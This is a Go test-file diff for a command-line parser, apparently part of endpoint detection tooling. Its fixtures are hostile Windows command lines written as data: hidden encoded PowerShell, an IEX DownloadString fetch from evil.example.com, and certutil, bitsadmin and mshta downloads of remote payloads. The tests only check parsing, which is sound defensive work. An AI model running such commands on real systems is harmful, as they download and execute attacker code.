@@ -58,6 +58,44 @@ func TestSplit(t *testing.T) {
 	}
 }
 
+func TestArg(t *testing.T) {
+	var tests = []struct {
+		cmdline string
+		name    string
+		want    string
+	}{
+		{`powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA`, "-enc", "SQBFAFgA"},
+		{`powershell.exe -NoP -NonI -W Hidden /ENC SQBFAFgA`, "-enc", "SQBFAFgA"},
+		{"powershell.exe \u2013enc SQBFAFgA", "-enc", "SQBFAFgA"},
+		{`powershell.exe -nop -enc`, "-enc", ""},
+		{`powershell.exe -nop -e SQBFAFgA`, "-enc", "SQBFAFgA"},
+		{`powershell.exe -nop -e SQBFAFgA`, "-EncodedCommand", "SQBFAFgA"},
+		{`powershell.exe -nop -en SQBFAFgA`, "-EncodedCommand", "SQBFAFgA"},
+		{`powershell.exe -nop -EncodedCommand SQBFAFgA`, "-EncodedCommand", "SQBFAFgA"},
+		{`powershell.exe -nop -ec SQBFAFgA`, "-EncodedCommand", ""},
+		{`powershell.exe -nop -ec SQBFAFgA`, "-EncodedCommand|-ec", "SQBFAFgA"},
+		{`powershell.exe -nop -e SQBFAFgA`, "-EncodedCommand|-ec", "SQBFAFgA"},
+		{`powershell.exe -nop -en SQBFAFgA`, "-EncodedCommand|-ec", "SQBFAFgA"},
+		{`powershell.exe -nop -EncodedCommand SQBFAFgA`, "-EncodedCommand|-ec", "SQBFAFgA"},
+		{`powershell.exe -nop -EncodedCommand:SQBFAFgA`, "-EncodedCommand|-ec", "SQBFAFgA"},
+		{`powershell.exe -ExecutionPolicy Bypass -enc SQBFAFgA`, "-EncodedCommand", "SQBFAFgA"},
+		{`powershell.exe -e cmd -enc SQBFAFgA`, "-enc", "SQBFAFgA"},
+		{`powershell.exe -encodedcommandx SQBFAFgA`, "-EncodedCommand", ""},
+		{`powershell.exe -Command "IEX (New-Object Net.WebClient)"`, "-command", "IEX (New-Object Net.WebClient)"},
+		{`C:\Spotify.exe --type=crashpad-handler "--database=Crashpad" --max-uploads=5`, "--type", "crashpad-handler"},
+		{`C:\Spotify.exe --type=crashpad-handler "--database=Crashpad" --max-uploads=5`, "--max-uploads", "5"},
+		{`csc.exe /noconfig /out:"C:\Temp\x.dll"`, "/out", `C:\Temp\x.dll`},
+		{`csrss.exe ObjectDirectory=\Windows SharedSection=1024,20480,768`, "SharedSection", "1024,20480,768"},
+		{`cmd.exe /c whoami`, "", ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.cmdline, func(t *testing.T) {
+			assert.Equal(t, tt.want, Arg(tt.cmdline, tt.name))
+		})
+	}
+}
+
 func TestCmdline(t *testing.T) {
 	require.NoError(t, os.Setenv("SystemRoot", "C:\\Windows"))
 	var tests = []struct {
@@ -124,3 +162,29 @@ func TestCmdline(t *testing.T) {
 		})
 	}
 }
+
+func TestURL(t *testing.T) {
+	var tests = []struct {
+		cmdline string
+		want    string
+	}{
+		{`certutil.exe -urlcache -f http://10.0.0.1:8080/a.exe a.exe`, "http://10.0.0.1:8080/a.exe"},
+		{`powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('https://evil.example.com/p.ps1')"`, "https://evil.example.com/p.ps1"},
+		{`mshta.exe HTTPS://Cdn.Example.org/x.hta?id=1,`, "https://Cdn.Example.org/x.hta?id=1"},
+		{`bitsadmin /transfer j /download /priority high ftp://user@files.example.net/drop.bin C:\drop.bin`, "ftp://user@files.example.net/drop.bin"},
+		{`regsvr32.exe /s /n /u /i:file:///C:/scrobj.sct scrobj.dll`, ""},
+		{`notepad.exe C:\Windows\win.ini`, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.cmdline, func(t *testing.T) {
+			u := URL(tt.cmdline)
+			if tt.want == "" {
+				assert.Nil(t, u)
+				return
+			}
+			require.NotNil(t, u)
+			assert.Equal(t, tt.want, u.String())
+		})
+	}
+}